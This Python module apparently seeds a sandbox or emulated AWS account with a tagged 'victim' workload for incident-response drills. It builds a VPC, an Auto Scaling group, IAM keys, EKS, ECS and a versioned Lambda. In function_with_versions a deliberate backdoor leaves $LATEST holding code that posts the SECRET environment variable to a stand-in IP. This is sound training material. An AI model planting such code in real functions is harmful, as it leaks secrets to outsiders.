"""A victim workload seeded into an emulated (or sandbox) AWS account for drills and tests.

A VPC with two subnets; an Auto Scaling group instance with two volumes, an instance profile and
a load balancer target group; a Lambda function with several versions; an IAM user with access
keys; an EKS cluster with a node instance; an ECS service with a task. Every resource is tagged
`prewire:drill=<id>` so a drill in a sandbox account can find and remove exactly what it made.
"""

from __future__ import annotations

import io
import json
import zipfile
from dataclasses import dataclass, field
from typing import Any

from responders.aws.session import AwsClients

DRILL_TAG = "prewire:drill"
AMI = "ami-0a1b2c3d4e5f60718"
SETTLING: Any = {"Delay": 2, "MaxAttempts": 60}  # a function is briefly Pending after a change


@dataclass
class Network:
    vpc_id: str
    subnet_ids: list[str]
    web_group: str


@dataclass
class Victim:
    network: Network
    instance_id: str
    volume_ids: list[str]
    auto_scaling_group: str
    target_group_arn: str
    role_name: str
    profile_arn: str
    user_name: str
    access_key_ids: list[str]
    function_name: str
    function_versions: list[str]
    eks_cluster: str
    eks_node: str
    ecs_cluster: str
    ecs_service: str
    ecs_task: str
    """The service's running task (ARN)."""
    extra: dict[str, Any] = field(default_factory=dict)


def _tags(drill: str, resource_type: str | None = None, **extra: str) -> Any:
    tags = [{"Key": DRILL_TAG, "Value": drill}, *({"Key": k, "Value": v} for k, v in extra.items())]
    return [{"ResourceType": resource_type, "Tags": tags}] if resource_type else tags


def seed_network(clients: AwsClients, drill: str) -> Network:
    ec2 = clients.ec2
    vpc = ec2.create_vpc(
        CidrBlock="10.42.0.0/16", TagSpecifications=_tags(drill, "vpc", Name="victim")
    )["Vpc"]["VpcId"]
    zones = [z["ZoneName"] for z in ec2.describe_availability_zones()["AvailabilityZones"]][:2]
    subnets = [
        ec2.create_subnet(
            VpcId=vpc,
            CidrBlock=f"10.42.{n}.0/24",
            AvailabilityZone=zone,
            TagSpecifications=_tags(drill, "subnet"),
        )["Subnet"]["SubnetId"]
        for n, zone in enumerate(zones, start=1)
    ]
    web = ec2.create_security_group(
        GroupName="victim-web",
        Description="victim web tier",
        VpcId=vpc,
        TagSpecifications=_tags(drill, "security-group"),
    )["GroupId"]
    ec2.authorize_security_group_ingress(
        GroupId=web,
        IpPermissions=[
            {
                "IpProtocol": "tcp",
                "FromPort": 443,
                "ToPort": 443,
                "IpRanges": [{"CidrIp": "0.0.0.0/0"}],
            }
        ],
    )
    return Network(vpc_id=vpc, subnet_ids=subnets, web_group=web)


def _zip(source: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zipped:
        zipped.writestr("app.py", source)
    return buffer.getvalue()


def instance_identity(clients: AwsClients, drill: str) -> tuple[str, str]:
    iam = clients.iam
    trust = {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Effect": "Allow",
                "Action": "sts:AssumeRole",
                # One identity for the victim's instance and its function.
                "Principal": {"Service": ["ec2.amazonaws.com", "lambda.amazonaws.com"]},
            }
        ],
    }
    role = iam.create_role(
        RoleName=f"victim-app-{drill}",
        AssumeRolePolicyDocument=json.dumps(trust),
        Tags=_tags(drill),
    )["Role"]["RoleName"]
    profile = iam.create_instance_profile(
        InstanceProfileName=f"victim-app-{drill}", Tags=_tags(drill)
    )["InstanceProfile"]
    iam.add_role_to_instance_profile(
        InstanceProfileName=profile["InstanceProfileName"], RoleName=role
    )
    return role, profile["Arn"]


def _web_tier(
    clients: AwsClients, drill: str, network: Network, profile_arn: str
) -> tuple[str, str]:
    ec2, autoscaling = clients.ec2, clients.autoscaling
    template = ec2.create_launch_template(
        LaunchTemplateName=f"victim-{drill}",
        LaunchTemplateData={
            "ImageId": AMI,
            "InstanceType": "t3.small",
            "SecurityGroupIds": [network.web_group],
            "IamInstanceProfile": {"Arn": profile_arn},
            "BlockDeviceMappings": [
                {"DeviceName": "/dev/xvda", "Ebs": {"VolumeSize": 8, "DeleteOnTermination": True}},
                {"DeviceName": "/dev/xvdf", "Ebs": {"VolumeSize": 20, "DeleteOnTermination": True}},
            ],
            "TagSpecifications": [
                {"ResourceType": "instance", "Tags": _tags(drill, Name="victim-web")}
            ],
        },
    )["LaunchTemplate"]["LaunchTemplateId"]
    elbv2 = clients.elbv2
    target_group = elbv2.create_target_group(
        Name=f"victim-{drill}"[:32],
        Protocol="HTTPS",
        Port=443,
        VpcId=network.vpc_id,
        TargetType="instance",
    )
    group_arn = target_group["TargetGroups"][0]["TargetGroupArn"]
    name = f"victim-web-{drill}"
    autoscaling.create_auto_scaling_group(
        AutoScalingGroupName=name,
        MinSize=1,
        MaxSize=2,
        DesiredCapacity=1,
        LaunchTemplate={"LaunchTemplateId": template, "Version": "$Latest"},
        VPCZoneIdentifier=",".join(network.subnet_ids),
        TargetGroupARNs=[group_arn],
        Tags=[{"Key": DRILL_TAG, "Value": drill, "PropagateAtLaunch": True}],
    )
    return name, group_arn


def seed_workload(clients: AwsClients, drill: str, network: Network) -> Victim:
    role, profile_arn = instance_identity(clients, drill)
    group, target_group = _web_tier(clients, drill, network, profile_arn)
    members = clients.autoscaling.describe_auto_scaling_groups(AutoScalingGroupNames=[group])
    instance_id = members["AutoScalingGroups"][0]["Instances"][0]["InstanceId"]
    reservation = clients.ec2.describe_instances(InstanceIds=[instance_id])["Reservations"][0]
    if "IamInstanceProfile" not in reservation["Instances"][0]:
        # moto's Auto Scaling ignores the launch template's profile; AWS would have applied it.
        clients.ec2.associate_iam_instance_profile(
            IamInstanceProfile={"Arn": profile_arn}, InstanceId=instance_id
        )
    instance = clients.ec2.describe_instances(InstanceIds=[instance_id])["Reservations"][0][
        "Instances"
    ][0]
    volumes = [m["Ebs"]["VolumeId"] for m in instance.get("BlockDeviceMappings", [])]
    iam = clients.iam
    user = iam.create_user(UserName=f"deploy-bot-{drill}", Tags=_tags(drill))["User"]["UserName"]
    keys = [iam.create_access_key(UserName=user)["AccessKey"]["AccessKeyId"] for _ in range(2)]
    function, versions = function_with_versions(clients, drill, role)
    cluster, node = _eks(clients, drill, network, role)
    ecs_cluster, service, task = _ecs(clients, drill, network)
    return Victim(
        network=network,
        instance_id=instance_id,
        volume_ids=volumes,
        auto_scaling_group=group,
        target_group_arn=target_group,
        role_name=role,
        profile_arn=profile_arn,
        user_name=user,
        access_key_ids=keys,
        function_name=function,
        function_versions=versions,
        eks_cluster=cluster,
        eks_node=node,
        ecs_cluster=ecs_cluster,
        ecs_service=service,
        ecs_task=task,
    )


def function_with_versions(clients: AwsClients, drill: str, role: str) -> tuple[str, list[str]]:
    fn = clients.lambda_
    role_arn = clients.iam.get_role(RoleName=role)["Role"]["Arn"]
    name = f"victim-api-{drill}"
    fn.create_function(
        FunctionName=name,
        Runtime="python3.12",
        Role=role_arn,
        Handler="app.handle",
        Code={"ZipFile": _zip("def handle(e, c):\n    return {'v': 1}\n")},
        Tags={DRILL_TAG: drill},
    )
    # A real function is Pending for a moment after each change and refuses the next one.
    fn.get_waiter("function_active_v2").wait(FunctionName=name, WaiterConfig=SETTLING)
    versions = [fn.publish_version(FunctionName=name)["Version"]]
    for release in (2, 3):
        fn.update_function_code(
            FunctionName=name, ZipFile=_zip(f"def handle(e, c):\n    return {{'v': {release}}}\n")
        )
        fn.get_waiter("function_updated_v2").wait(FunctionName=name, WaiterConfig=SETTLING)
        versions.append(fn.publish_version(FunctionName=name)["Version"])
    # The backdoor: $LATEST differs from every published version.
    fn.update_function_code(
        FunctionName=name,
        ZipFile=_zip(
            "import os, urllib.request\n"
            "def handle(e, c):\n"
            "    secret = os.environ.get('SECRET', '').encode()\n"
            "    urllib.request.urlopen('https://203.0.113.7/x', data=secret)\n"
            "    return {'v': 3}\n"
        ),
    )
    fn.get_waiter("function_updated_v2").wait(FunctionName=name, WaiterConfig=SETTLING)
    return name, versions


def _eks(clients: AwsClients, drill: str, network: Network, role: str) -> tuple[str, str]:
    name = f"victim-eks-{drill}"
    role_arn = clients.iam.get_role(RoleName=role)["Role"]["Arn"]
    clients.eks.create_cluster(
        name=name,
        roleArn=role_arn,
        resourcesVpcConfig={"subnetIds": network.subnet_ids},
        logging={"clusterLogging": [{"types": ["api"], "enabled": True}]},
        tags={DRILL_TAG: drill},
    )
    node = clients.ec2.run_instances(
        ImageId=AMI,
        MinCount=1,
        MaxCount=1,
        InstanceType="m5.large",
        SubnetId=network.subnet_ids[0],
        BlockDeviceMappings=[{"DeviceName": "/dev/xvda", "Ebs": {"VolumeSize": 50}}],
        TagSpecifications=_tags(
            drill, "instance", **{"eks:cluster-name": name, "Name": "victim-node"}
        ),
    )["Instances"][0]["InstanceId"]
    return name, node


def _ecs(clients: AwsClients, drill: str, network: Network) -> tuple[str, str, str]:
    ecs = clients.ecs
    cluster = f"victim-ecs-{drill}"
    ecs.create_cluster(clusterName=cluster, tags=[{"key": DRILL_TAG, "value": drill}])
    definition = ecs.register_task_definition(
        family=f"victim-worker-{drill}",
        networkMode="awsvpc",
        requiresCompatibilities=["FARGATE"],
        cpu="256",
        memory="512",
        containerDefinitions=[
            {
                "name": "worker",
                "image": "public.ecr.aws/docker/library/python:3.12",
                "cpu": 256,
                "memory": 512,
                "essential": True,
                "logConfiguration": {
                    "logDriver": "awslogs",
                    "options": {
                        "awslogs-group": f"/ecs/victim-{drill}",
                        "awslogs-region": clients.region,
                        "awslogs-stream-prefix": "worker",
                    },
                },
            }
        ],
    )["taskDefinition"]["taskDefinitionArn"]
    service = f"victim-worker-{drill}"
    awsvpc: Any = {
        "awsvpcConfiguration": {
            "subnets": network.subnet_ids,
            "securityGroups": [network.web_group],
        }
    }
    ecs.create_service(
        cluster=cluster,
        serviceName=service,
        taskDefinition=definition,
        desiredCount=1,
        launchType="FARGATE",
        networkConfiguration=awsvpc,
    )
    # The service's task, started as ECS's service scheduler starts it (group and startedBy):
    # moto creates the service but never schedules its tasks.
    [task] = ecs.run_task(
        cluster=cluster,
        taskDefinition=definition,
        launchType="FARGATE",
        group=f"service:{service}",
        startedBy="ecs-svc/prewire-drill",
        networkConfiguration=awsvpc,
    )["tasks"]
    return cluster, service, str(task["taskArn"])
